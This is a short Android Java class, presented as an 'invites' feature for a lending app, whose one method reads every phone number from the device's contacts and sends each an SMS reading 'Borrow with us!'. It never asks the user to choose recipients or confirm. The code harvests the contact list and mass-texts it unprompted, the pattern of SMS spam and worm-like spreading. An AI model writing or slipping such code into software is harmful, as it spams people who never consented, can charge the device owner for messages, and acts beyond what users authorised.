package com.example.invites;

import android.content.Context;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.telephony.SmsManager;

/** The numbers are where the messages go, not what they say. */
final class Invites {
    private Invites() {}

    static void send(Context context) {
        String[] columns = {Phone.NUMBER};
        Cursor cursor = context.getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            SmsManager.getDefault().sendTextMessage(cursor.getString(0), null, "Borrow with us!", null, null);
        }
        cursor.close();
    }
}
